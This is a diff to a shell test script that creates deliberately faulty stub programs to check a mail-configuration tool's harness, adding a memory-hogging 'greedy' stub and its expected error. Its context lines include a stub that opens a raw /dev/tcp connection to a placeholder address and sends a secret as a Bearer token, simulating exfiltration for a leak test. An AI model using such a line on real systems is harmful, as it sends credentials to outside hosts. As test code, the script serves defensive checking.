@@ -26,7 +26,12 @@ exec 3<>/dev/tcp/203.0.113.30/80 || exec 3<>/dev/tcp/127.0.113.30/80
 printf 'GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n' "$secret" >&3
 cat <&3 >/dev/null
 END
-chmod +x "$folder/leaky" "$folder/mute" "$folder/talkative"
+# One that keeps all it can get.
+cat >"$folder/greedy" <<'END'
+#!/bin/sh
+head -c 250000000 /dev/zero | tail -c 249999999 >/dev/null
+END
+chmod +x "$folder/greedy" "$folder/leaky" "$folder/mute" "$folder/talkative"
 
 # complains NAME PROGRAM PHRASE: the scenario written last fails with PHRASE.
 complains() {
@@ -82,6 +87,8 @@ scenario "$imap" alice@example.org '"993": {}' '"root_cause": null'
 complains leaky-output "$folder/leaky" 'the secret stands in standard output'
 scenario "$imap" alice@example.org '"993": {}' '"root_cause": null'
 complains no-answer "$folder/mute" 'standard output is no JSON'
+scenario "$imap" alice@example.org '"993": {}' '"root_cause": null'
+complains greedy "$folder/greedy" 'MiB of memory'
 scenario "$imap" alice@example.org '"993": { "sofware": "gmail" }' '"root_cause": null'
 complains misspelt-key ./mailguide "hosts.imap.example.org.ports.993: unknown key 'sofware'"
 
